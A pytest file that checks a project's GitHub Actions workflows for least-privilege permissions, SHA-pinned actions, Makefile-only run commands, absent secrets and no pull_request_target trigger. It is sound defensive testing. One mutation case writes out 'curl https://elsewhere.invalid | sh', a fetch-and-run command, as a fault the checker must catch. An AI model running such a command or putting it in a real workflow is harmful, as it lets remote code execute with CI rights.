"""The workflows: least rights, pinned actions, no secrets, and commands that the Makefile has."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Final

import pytest

ROOT: Final = Path(__file__).parents[1]
WORKFLOWS: Final = {path.name: path.read_text(encoding="utf-8") for path in (ROOT / ".github" / "workflows").iterdir()}
PAGES: Final = WORKFLOWS["pages.yml"]
MAKEFILE: Final = (ROOT / "Makefile").read_text(encoding="utf-8")

READ: Final = {"contents: read"}
RIGHTS: Final = {"check": READ, "build": READ, "deploy": {"pages: write", "id-token: write"}, "proof": READ}
"""What each job may do."""

PINNED: Final = re.compile(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
LINE: Final = re.compile(r"( *)(?:- )?(?:[\w-]+:(?: \S.*)?)$")
"""What a line of such a file looks like: a key, and its value if it is short."""


def block(text: str, key: str, depth: int = 0) -> str:
    """Returns the lines below a key at this depth."""
    found = re.search(rf"^{' ' * depth}{re.escape(key)}:\n((?:{' ' * (depth + 1)}.*\n|\n)*)", text, re.MULTILINE)
    return found[1] if found else ""


def faults(workflow: str) -> list[str]:
    """Lists what is wrong with a workflow."""
    actions = re.findall(r"uses: *(.*)", workflow)
    return [
        *(f"not understood: {line}" for line in workflow.splitlines() if not is_understood(line)),
        *([] if re.search(r"^permissions: {}$", workflow, re.MULTILINE) else ["rights for all jobs"]),
        *wrong_rights(workflow),
        *(f"not pinned: {action}" for action in actions if not PINNED.fullmatch(action)),
        *(f"not in the Makefile: {command}" for command in re.findall(r"run: *(.*)", workflow) if not is_made(command)),
        *(f"a secret: {name}" for name in re.findall(r"secrets\.\w+", workflow)),
        *(["may run the code of others with rights"] if "pull_request_target" in workflow else []),
    ]


def is_understood(line: str) -> bool:
    """Returns whether this test can judge a line."""
    bare = line.partition(" #")[0].rstrip()
    shape = LINE.match(bare)
    return not bare or bare.lstrip().startswith("#") or (shape is not None and len(shape[1]) % 2 == 0)


def wrong_rights(workflow: str) -> list[str]:
    """Names the jobs that may do more than they need, or less."""
    jobs = block(workflow, "jobs")
    names = re.findall(r"^  (\w+):$", jobs, re.MULTILINE)
    given = {name: set(block(block(jobs, name, 2), "permissions", 4).split("\n")) for name in names}
    found = {name: {right.strip() for right in rights} - {""} for name, rights in given.items()}
    return [f"{name} may do {sorted(rights)}" for name, rights in found.items() if rights != RIGHTS.get(name)]


def is_made(command: str) -> bool:
    """Returns whether a command is a target of the Makefile, so that it can be tried anywhere."""
    target = command.removeprefix("make ")
    return target != command and bool(re.search(rf"^{re.escape(target)}:.*##", MAKEFILE, re.MULTILINE))


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_is_valid(name: str) -> None:
    assert faults(WORKFLOWS[name]) == []


def test_only_a_site_that_passed_the_tests_is_published() -> None:
    jobs = block(PAGES, "jobs")
    assert re.findall(r"run: *(.*)", block(jobs, "build", 2)) == ["make test", "make site"]
    assert block(jobs, "deploy", 2).count("needs: build") == 1


def test_the_proof_runs_every_week() -> None:
    assert re.search(r'- cron: "\d+ \d+ \* \* \d"', WORKFLOWS["proof.yml"])
    assert "run: make proof" in WORKFLOWS["proof.yml"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("permissions: {}", "permissions: write-all"),
        ("permissions: {}", ""),
        ("contents: read", "contents: write"),
        ("      id-token: write\n", "      id-token: write\n      contents: write\n"),
        ("cd2ce8fcbc39b97be8ca5fce6e763baed58fa128 # v5.0.0", "v5"),
        ("actions/deploy-pages@", "somebody/deploy-pages@"),
        ("make site", "make everything"),
        ("make site", "curl https://elsewhere.invalid | sh"),
        ("path: dist", "path: ${{ secrets.TOKEN }}"),
        ("    needs: build", "   needs: build"),
        ("  pull_request:", "  pull_request"),
        ("  pull_request:", "  pull_request_target:"),
    ],
)
def test_a_fault_is_seen(old: str, new: str) -> None:
    assert old in PAGES
    assert faults(PAGES.replace(old, new, 1))
